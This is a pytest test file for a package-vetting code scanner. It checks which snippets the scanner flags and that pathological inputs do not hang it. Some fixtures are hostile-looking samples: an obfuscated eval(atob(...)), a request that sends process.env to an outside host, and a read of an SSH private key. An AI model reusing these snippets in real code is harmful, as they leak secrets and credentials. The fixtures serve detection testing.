"""The scan: honest code passes, what nothing runs weighs less, and hostile input costs neither time nor the process."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from tests.incidents.packages import judged, npm_package, scanned

from vsm_mcp.model.finding import CheckStatus
from vsm_mcp.vetting.code.check import examine

HONEST = [
    ("a.mjs", "const cfg = schema.parse(process.env);\nfetch('https://api.example.com', { headers: { a: cfg.API_KEY } });"),
    ("a.mjs", "spawn('node', ['x.js'], { env: { ...process.env, A: '1' } });\nfetch('https://api.example.com');"),
    ("a.mjs", "import { exec } from 'child_process';\nexec('git status', () => {});"),
    ("a.mjs", "const f = new Function('a', 'return a');\nconst img = Buffer.from(data, 'base64'); fs.writeFileSync(p, img);"),
    ("a.mjs", "if (process.argv[2] === 'setup') { fs.writeFileSync(os.homedir() + '/.cursor/mcp.json', '{}'); }"),
    ("a.py", "import os, requests\nrequests.get(os.environ['URL'], headers={'k': os.getenv('KEY')})\n"),
    ("a.py", "import subprocess, shlex\ndef run(p):\n    return subprocess.run(f'ls {shlex.quote(p)}', shell=True)\n"),
    ("a.py", "import base64\ndef image(d):\n    return base64.b64decode(d)\n"),
    ("a.py", "# " + "-" * 200 + "\nX = 1\n"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "source"), HONEST, ids=range(len(HONEST)))
def test_honest_code_asks_for_nothing(tmp_path: Path, name: str, source: str) -> None:
    scan = scanned(tmp_path, name, source)
    assert [finding.rule for finding in scan.findings if finding.severity.value != "note"] == []
    assert scan.skipped == ()


def test_what_nothing_runs_is_for_a_person_unless_it_is_imported(tmp_path: Path) -> None:
    bad = "eval(atob('YQ=='));"
    first = scanned(tmp_path, "tests/fixture.js", bad)
    assert [finding.severity.value for finding in first.findings] == ["review"]
    second = scanned(tmp_path, "index.js", "require('./tests/fixture');")
    assert [finding.severity.value for finding in second.findings] == ["block"]


def test_a_bundle_is_read_piece_by_piece_not_skipped_by_its_name(tmp_path: Path) -> None:
    filler = "".join(f"function f{n}(a) {{ return a + {n}; }}\n" for n in range(12_000))
    bad = "const q = require('https');\n(() => { q.request('https://t.example.com').end(JSON.stringify(process.env)); })();\n"
    scan = scanned(tmp_path, "dist/bundle.min.js", filler + bad + filler)
    assert [finding.rule for finding in scan.findings] == ["code.environment_sent"]


def test_each_piece_of_a_bundle_is_a_place_of_its_own(tmp_path: Path) -> None:
    filler = "".join(f"function f{n}(a) {{ return a + {n}; }}\n" for n in range(12_000))
    read = "function key() { return require('fs').readFileSync('/home/u/.ssh/id_rsa'); }\n"
    scan = scanned(tmp_path, "dist/bundle.js", read + filler + "fetch('https://api.example.com');\n")
    assert scan.findings == ()


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("deep.py", "x = " + "(" * 5000 + ")" * 5000),
        ("minus.py", "x = " + "-" * 200_000 + "1"),
        ("chain.py", "x = a" + ".b" * 200_000),
        ("deep.js", "x = " + "[" * 40_000 + "]" * 40_000),
        ("ternary.js", "x = " + "a?b:" * 20_000 + "c"),
    ],
    ids=["brackets", "signs", "members", "arrays", "ternaries"],
)
async def test_deep_nesting_is_unavailable_with_the_reason(tmp_path: Path, name: str, source: str) -> None:
    (tmp_path / name).write_text(source)
    result = await examine(tmp_path)
    assert result.status is CheckStatus.UNAVAILABLE
    assert result.detail


async def test_one_endless_line_and_bytes_that_are_no_text_do_not_hang(tmp_path: Path) -> None:
    (tmp_path / "line.js").write_bytes(b"a=1;" * 13_000_000)
    (tmp_path / "bytes.js").write_bytes(os.urandom(200_000))
    (tmp_path / "bytes.py").write_bytes(b"\xff\xfe\x00" * 1000)
    (tmp_path / "regex.js").write_text("x = '" + "a" * 3000 + "@" + "a." * 30_000 + "';" + "/.ssh" * 20_000)
    result = await examine(tmp_path)
    assert result.status is CheckStatus.UNAVAILABLE
    assert "line.js: it is too large" in result.detail


async def test_a_scan_that_takes_too_long_is_ended_and_unavailable(tmp_path: Path) -> None:
    (tmp_path / "a.js").write_text("a=1;")
    result = await examine(tmp_path, seconds=0.01)
    assert (result.status, result.looked_at) == (CheckStatus.UNAVAILABLE, 0)
    assert "took longer" in result.detail


async def test_the_capabilities_and_addresses_are_part_of_the_result(tmp_path: Path) -> None:
    source = "fetch('https://api.example.net/x');\n// mail me@host.example.net\n"
    code = (await judged(npm_package(tmp_path, {"index.mjs": source})))[1]
    assert code.status is CheckStatus.PASS
    assert code.profile is not None
    assert code.profile.capabilities == ("network",)
    assert code.profile.constants == ("api.example.net", "me@host.example.net")
